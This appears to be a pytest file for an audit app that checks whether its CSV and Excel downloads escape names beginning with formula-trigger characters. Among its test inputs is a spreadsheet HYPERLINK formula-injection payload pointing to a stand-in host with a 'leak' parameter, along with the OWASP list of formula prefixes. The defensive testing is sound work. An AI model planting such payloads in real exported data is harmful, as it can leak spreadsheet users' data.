"""Every CSV and Excel file the app writes keeps names that start like a formula as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from audit_app.downloads import FORMULA_START, safe, unescape
from audit_app.extensions import db
from audit_app.models import Case, Team
from tests.factories import team
from tests.moderation_factories import GOOD, RI, make_template, moderate
from tests.test_case_import import case_count, upload

Q2 = "period_from=2022-Q2&period_to=2022-Q2"
# Each way a spreadsheet starts a formula or a command (OWASP's list), in front of a name.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def _lines(text):
    # An XLSX file is XML, whose readers turn a carriage return into a line feed.
    return text.replace("\r", "\n")


def assert_no_formulas(cells, names):
    """No text cell starts a formula, and each name is there, escaped."""
    cells = [_lines(c) for c in cells]
    starts = tuple(_lines(s) for s in FORMULA_START)
    assert [c for c in cells if c.startswith(starts) and not _is_number(c)] == []
    for name in names:
        assert _lines("'" + name) in cells, repr(name)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_every_download_escapes_names_that_start_a_formula(client, login, users, prefix):
    team_name = f"{prefix}AAA team"
    template_name = f'{prefix}HYPERLINK("http://x.example/?leak=1") template'
    reference = f"{prefix}LCS-100200"
    db.session.add(Team(name=team_name, service_id=team().service_id))
    template = make_template(name=template_name)
    moderate(users["auditor"], users["moderator"], template, reference=reference,
             team_name=team_name, overall=(GOOD, RI))
    db.session.commit()

    login("admin")  # reads the report and edits the case register
    query = f"{Q2}&template={template.id}"
    report_names = [team_name, reference]
    for path in ("/reports/agreement-pairs.csv", "/reports/agreement-pairs.xlsx"):
        cells = (csv_cells if path.endswith("csv") else xlsx_cells)(client.get(f"{path}?{query}"))
        assert_no_formulas(cells, report_names)
    for path in ("/reports/agreement.csv", "/reports/agreement.xlsx"):
        cells = (csv_cells if path.endswith("csv") else xlsx_cells)(client.get(f"{path}?{query}"))
        assert_no_formulas(cells, [template_name])

    example = client.get("/cases/import/example.csv")
    assert_no_formulas(csv_cells(example), [team_name])
    # The example, escaped, still imports into the team whose name it escaped.
    before = case_count()
    assert upload(client, example.data).status_code == 302
    assert case_count() == before + 2
    imported = db.session.scalar(db.select(Case).where(Case.reference == "1000001"))
    assert imported.team.name == team_name


@pytest.mark.parametrize("text", [
    "=1+1", "+44 1270 000000", "-5", "@SUM(A1)", "\tTab", "\rReturn", "'quoted", "''=x",
    "Plain", "", "a=b",
])
def test_unescape_undoes_safe(text):
    assert unescape(safe(text)) == text
    assert not safe(text).startswith(FORMULA_START)
